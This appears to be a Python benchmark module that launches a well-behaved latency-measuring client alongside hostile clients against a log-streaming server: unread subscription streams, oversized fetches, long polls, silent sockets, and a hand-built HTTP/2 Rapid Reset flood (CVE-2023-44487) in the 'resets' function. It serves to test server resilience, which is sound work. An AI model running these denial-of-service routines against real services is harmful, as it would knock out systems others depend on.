"""The programs of `bench.crowd`: one well-behaved client, and the four kinds of hostile ones.

Each is a separate process, started as `python -m bench.crowd_roles ROLE ADDRESSES COUNT`, which runs until its standard
input ends. It prints `ready` when all its connections and calls are open; the well-behaved client prints its
measurements for each line of input.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Sequence
from typing import Any, Final

import grpc

from streamlog.api.pb import batches_pb2, common_pb2
from streamlog.api.pb import records_pb2 as pb
from streamlog.client import AsyncAdmin, AsyncProducer
from streamlog.errors import StreamlogError
from streamlog.ports.system import run as run_loop

TOPIC: Final = "crowd"
QUIET_TOPIC: Final = "quiet"
PARTITIONS: Final = 6
_INT32_MAX: Final = 2**31 - 1
_OPTIONS: Final = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_receive_message_length", -1)]
_POLLS_PER_CHANNEL: Final = 50
_POLL_MS: Final = 30_000
_POLL_PARTITION_BYTES: Final = 1 << 16
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_RESETS_AT_ONCE: Final = 50
_HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 1, 3, 4, 6, 7
_END_HEADERS: Final = 4
_CANCEL: Final = 8


def _ready() -> None:
    print("ready", flush=True)


def _wait_for_end_of_input() -> None:
    sys.stdin.read()


def client(addresses: Sequence[str], _: int) -> None:
    """Produces one record at a time; prints the latencies in ms since the last line of input as a JSON list."""
    run_loop(_produce(addresses))


async def _produce(addresses: Sequence[str]) -> None:
    loop = asyncio.get_running_loop()
    took: list[float] = []
    failures = 0
    stopped = asyncio.Event()

    def listen() -> None:
        for _line in sys.stdin:
            loop.call_soon_threadsafe(report)
        loop.call_soon_threadsafe(stopped.set)

    def report() -> None:
        nonlocal failures
        print(json.dumps({"took_ms": took, "failures": failures}), flush=True)
        took.clear()
        failures = 0

    threading.Thread(target=listen, daemon=True).start()
    async with AsyncProducer(bootstrap_servers=",".join(addresses)) as producer:
        await producer.send(QUIET_TOPIC, value=bytes(1_000))
        _ready()
        while not stopped.is_set():
            begin = time.monotonic()
            try:
                await producer.send(QUIET_TOPIC, value=bytes(1_000))
            except StreamlogError:
                failures += 1
            took.append((time.monotonic() - begin) * 1e3)
            await asyncio.sleep(0.005)


def subscribers(addresses: Sequence[str], count: int) -> None:
    """Streams of records that are never read: each a connection of its own."""
    request = pb.SubscribeRequest(
        subscriptions=[
            pb.SubscribePartitions(topic=TOPIC, start=pb.StartPosition(bound=common_pb2.OFFSET_BOUND_EARLIEST))
        ]
    )
    held: list[Any] = []
    for number in range(count):
        channel = grpc.insecure_channel(addresses[number % len(addresses)], options=_OPTIONS)
        call: Any = channel.unary_stream("/streamlog.v1.Records/Subscribe")
        held.append((channel, call(request.SerializeToString())))
    _hold(held)


def fetch_streams(addresses: Sequence[str], count: int) -> None:
    """As `subscribers`, of batches, and each asks for messages as large as may be."""
    held: list[Any] = []
    settings = batches_pb2.FetchSettings(response_bytes_max=_INT32_MAX, receive_bytes_max=_INT32_MAX)
    parts = [
        batches_pb2.FetchPartition(topic=TOPIC, partition=index, partition_bytes_max=_INT32_MAX)
        for index in range(PARTITIONS)
    ]
    first = batches_pb2.FetchStreamRequest(settings=settings, add=parts).SerializeToString()
    for number in range(count):
        channel = grpc.insecure_channel(addresses[number % len(addresses)], options=_OPTIONS)
        call: Any = channel.stream_stream("/streamlog.v1.Batches/FetchStream")
        held.append((channel, call(_one_and_silence(first))))
    _hold(held)


def _one_and_silence(message: bytes) -> Any:
    yield message
    threading.Event().wait()


def _hold(held: list[Any]) -> None:
    time.sleep(3)
    _ready()
    _wait_for_end_of_input()
    os._exit(0)  # as a client that is killed: the calls are not cancelled


def pollers(addresses: Sequence[str], count: int) -> None:
    """Long polls with a fetch.min.bytes above the size of their records, so that each waits; repeated."""
    run_loop(_poll(addresses, count))


async def _poll(addresses: Sequence[str], count: int) -> None:
    loop = asyncio.get_running_loop()
    ended = asyncio.Event()

    def listen() -> None:
        _wait_for_end_of_input()
        loop.call_soon_threadsafe(ended.set)

    threading.Thread(target=listen, daemon=True).start()
    settings = batches_pb2.FetchSettings(
        wait_ms_max=_POLL_MS, bytes_min=_INT32_MAX, response_bytes_max=_INT32_MAX, receive_bytes_max=_INT32_MAX
    )
    requests = [
        (address, batches_pb2.FetchRequest(settings=settings, partitions=parts).SerializeToString())
        for address, parts in (await _led(addresses)).items()
    ]
    outcomes: dict[str, int] = {}

    async def one(call: Any, request: Any) -> None:
        while not ended.is_set():
            try:
                await call(request, timeout=60)
                name = "OK"
            except grpc.RpcError as error:
                name = error.code().name
                await asyncio.sleep(1)
            outcomes[name] = outcomes.get(name, 0) + 1

    calls: list[Any] = []
    for number in range(max(1, count // _POLLS_PER_CHANNEL)):
        address, request = requests[number % len(requests)]
        channel = grpc.aio.insecure_channel(address, options=_OPTIONS)
        calls.append((channel.unary_unary("/streamlog.v1.Batches/Fetch"), request))
    tasks = [asyncio.ensure_future(one(*calls[number % len(calls)])) for number in range(count)]
    await asyncio.sleep(3)
    _ready()
    await ended.wait()
    print(json.dumps(outcomes), flush=True)
    del tasks
    os._exit(0)


async def _led(addresses: Sequence[str]) -> dict[str, list[batches_pb2.FetchPartition]]:
    """By address the partitions that it leads: a poll of any other is answered at once, and does not wait."""
    async with AsyncAdmin(bootstrap_servers=",".join(addresses)) as admin:
        nodes = {node.node_id: f"{node.host}:{node.port}" for node in (await admin.describe_cluster()).nodes}
        found: dict[str, list[batches_pb2.FetchPartition]] = {}
        for one in (await admin.describe_topic(TOPIC)).partitions:
            if one.leader is not None:
                part = batches_pb2.FetchPartition(
                    topic=TOPIC, partition=one.partition, partition_bytes_max=_POLL_PARTITION_BYTES
                )
                found.setdefault(nodes[one.leader], []).append(part)
        return found


def silent(addresses: Sequence[str], count: int) -> None:
    """Connections that send nothing."""
    held: list[socket.socket] = []
    for number in range(count):
        host, _, port = addresses[number % len(addresses)].rpartition(":")
        try:
            held.append(socket.create_connection((host, int(port)), timeout=3))
        except OSError:
            continue
    print(f"{len(held)} connected", file=sys.stderr, flush=True)
    _ready()
    _wait_for_end_of_input()


def resets(addresses: Sequence[str], count: int) -> None:
    """`count` calls a second, each reset immediately (CVE-2023-44487)."""
    stop = threading.Event()
    per_node = count / len(addresses)
    for address in addresses:
        threading.Thread(target=_reset, args=(address, per_node, stop), daemon=True).start()
    _ready()
    _wait_for_end_of_input()
    stop.set()


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header field that is not indexed (RFC 7541, 6.2.2); both shorter than 127 bytes."""
    return bytes((0, len(name))) + name + bytes((len(value),)) + value


def _reset(address: str, per_second: float, stop: threading.Event) -> None:
    host, _, port = address.rpartition(":")
    fields = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": b"/streamlog.v1.Batches/Fetch",
        b":authority": b"x",
        b"te": b"trailers",
        b"content-type": b"application/grpc",
    }
    block = b"".join(_literal(name, value) for name, value in fields.items())
    cancel = struct.pack(">I", _CANCEL)
    while not stop.is_set():
        try:
            with socket.create_connection((host, int(port)), timeout=3) as made:
                made.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
                made.settimeout(0.001)
                stream = 1
                while not stop.is_set() and stream < 1 << 30:
                    begin = time.monotonic()
                    frames = []
                    for _number in range(_RESETS_AT_ONCE):
                        frames.append(_frame(_HEADERS, _END_HEADERS, stream, block))
                        frames.append(_frame(_RST_STREAM, 0, stream, cancel))
                        stream += 2
                    made.settimeout(3)
                    made.sendall(b"".join(frames))
                    made.settimeout(0.001)
                    try:
                        if not made.recv(1 << 16):
                            break
                    except TimeoutError:
                        pass
                    time.sleep(max(0.0, _RESETS_AT_ONCE / per_second - (time.monotonic() - begin)))
        except OSError:
            time.sleep(0.2)


ROLES: Final = {
    "client": client,
    "subscribers": subscribers,
    "fetch_streams": fetch_streams,
    "pollers": pollers,
    "silent": silent,
    "resets": resets,
}


if __name__ == "__main__":
    ROLES[sys.argv[1]](sys.argv[2].split(","), int(sys.argv[3]))
